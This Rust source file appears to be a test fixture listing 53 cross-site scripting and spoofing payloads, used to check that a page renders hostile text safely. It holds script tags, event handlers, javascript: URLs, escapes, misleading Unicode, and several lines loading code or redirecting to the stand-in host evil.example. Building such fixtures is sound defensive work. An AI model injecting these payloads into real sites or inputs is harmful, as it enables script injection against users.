//! Texts that a hostile server or client may send in the hope that a page treats them as more than text.
//!
//! Code in them that runs sets `canary`, opens a dialog, or sends a request to a host that does not exist.

/// Each is short enough for a name.
pub(crate) const VECTORS: [&str; 53] = [
    // Elements that run code.
    "<script>window.canary=1</script>",
    "<ScRiPt>window.canary=1</sCrIpT >",
    "<script src=https://evil.example/x.js></script>",
    "<scr<script>ipt>window.canary=1</scr</script>ipt>",
    "<script\u{c}>window.canary=1</script>",
    "<script type=module>window.canary=1</script>",
    "<iframe src=javascript:parent.canary=1>",
    "<iframe srcdoc='<script>parent.canary=1</script>'>",
    "<object data=javascript:canary=1></object>",
    "<embed src=https://evil.example/x.swf>",
    // Event handlers.
    "<img src=x onerror=window.canary=1>",
    "<img src=x onerror=\"alert(1)\">",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    "<image src=x onerror=window.canary=1>",
    "<body onload=window.canary=1>",
    "<input autofocus onfocus=window.canary=1>",
    "<details open ontoggle=window.canary=1>x</details>",
    "<video><source onerror=window.canary=1></video>",
    "<audio src=x onerror=window.canary=1>",
    "<marquee onstart=window.canary=1>x</marquee>",
    "<p style='animation:x' onanimationstart=canary=1>",
    "<div onpointerenter=alert(1)>over me</div>",
    // SVG and MathML.
    "<svg onload=window.canary=1>",
    "<svg><script>window.canary=1</script></svg>",
    "<svg><animate onbegin=window.canary=1 attributeName=x>",
    "<svg><a xlink:href=javascript:canary=1><text y=9>x",
    "<math><mi xlink:href=data:x,<script>alert(1)</script>",
    // URLs.
    "javascript:window.canary=1",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>parent.canary=1</script>",
    "data:image/svg+xml,<svg onload='canary=1'/>",
    "vbscript:msgbox(1)",
    "<a href=javascript:canary=1>press me</a>",
    "<form action=https://evil.example><button>go</button>",
    "<meta http-equiv=refresh content='0;//evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    // Escapes from attributes, comments, scripts and templates.
    "\"><img src=x onerror=window.canary=1>",
    "'><svg onload=window.canary=1>",
    "--><script>window.canary=1</script><!--",
    "</title></textarea></style></script><svg onload=canary=1>",
    "${window.canary=1}{{constructor.constructor('canary=1')()}}",
    "';window.canary=1;//\\';window.canary=1;//",
    "]]><script>window.canary=1</script>",
    // Texts that look like something else.
    "\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}",
    "safe\u{202e}txt.exe\u{202c}\u{2066}gnp",
    "\u{ff1c}script\u{ff1e}window.canary=1\u{ff1c}/script\u{ff1e}",
    "zero\u{200b}width\u{feff}\u{e0041}\u{e0042}\u{ad}gap",
    "fill\u{34f}er\u{3164}\u{2800}\u{115f}\u{fe0f}\u{e0100}\u{180e}gap",
    "__proto__",
];

/// One word without a place for a line break.
pub(crate) fn long_word() -> String {
    "Wort".repeat(5_000)
}
